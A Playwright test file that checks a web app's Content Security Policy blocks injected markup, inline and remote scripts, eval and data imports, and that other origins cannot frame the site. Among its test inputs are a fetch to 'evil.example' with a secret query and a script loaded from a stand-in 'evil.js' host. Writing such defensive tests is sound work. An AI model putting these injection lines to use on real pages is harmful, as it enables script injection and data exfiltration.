import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { siteUrl } from "./support/siteUnderTest.ts";
import { expect, test } from "./support/test.ts";

test("what gets into the page all the same runs no script and asks no other server", async ({ page, app, watch }) => {
  await page.goto("/");
  await expect(app.row("Core", "USDC")).toBeVisible();
  const done = await page.evaluate(async () => {
    const outcome = async (attack: () => unknown) => {
      // In a task of the page: a test's own task may evaluate code that the policy forbids for the page.
      await new Promise((resolve) => setTimeout(resolve));
      try {
        await attack();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    };
    const script = () => document.body.appendChild(document.createElement("script"));
    const attacks = {
      markup: () => Object.assign(document.body.appendChild(document.createElement("div")), { innerHTML: "<b>!</b>" }),
      inline: () => Object.assign(script(), { text: "window.ran = true" }),
      foreign: () => Object.assign(script(), { src: "http://127.0.0.1:9/evil.js" }),
      // On the site's server, but not part of the site.
      own: () => Object.assign(script(), { src: "/config.json" }),
      evaluated: () => new Function("window.ran = true")(),
      node: () => document.body.appendChild(document.createElement("script")).append("window.ran = true"),
      asked: () => fetch("https://evil.example/?secret"),
      imported: () => import("data:text/javascript,window.ran=true" as string),
    };
    const outcomes: Record<string, string> = {};
    for (const [name, attack] of Object.entries(attacks)) {
      outcomes[name] = await outcome(attack);
      if ("ran" in window) outcomes[name] += ", and ran";
    }
    return outcomes;
  });
  expect(done).toEqual({
    markup: "TypeError",
    inline: "TypeError",
    foreign: "TypeError",
    own: "TypeError",
    evaluated: "EvalError",
    node: "done", // the element exists; its script never ran
    asked: "TypeError",
    imported: "TypeError",
  });
  expect(watch.violations.splice(0).length).toBeGreaterThan(0);
});

test("no other page can put the site into a frame", async ({ page, watch }) => {
  const other = createServer((_request, response) =>
    response.setHeader("Content-Type", "text/html").end(`<iframe src="${siteUrl()}/"></iframe>`),
  );
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  try {
    watch.allow(/status of 403/);
    const answered = page.waitForResponse(`${siteUrl()}/`);
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    // The guard in front of the server rejects it before `frame-ancestors` applies.
    expect((await answered).status()).toBe(403);
    await expect(page.frameLocator("iframe").getByRole("heading", { level: 1 })).toHaveCount(0);
  } finally {
    other.closeAllConnections();
    other.close();
  }
});
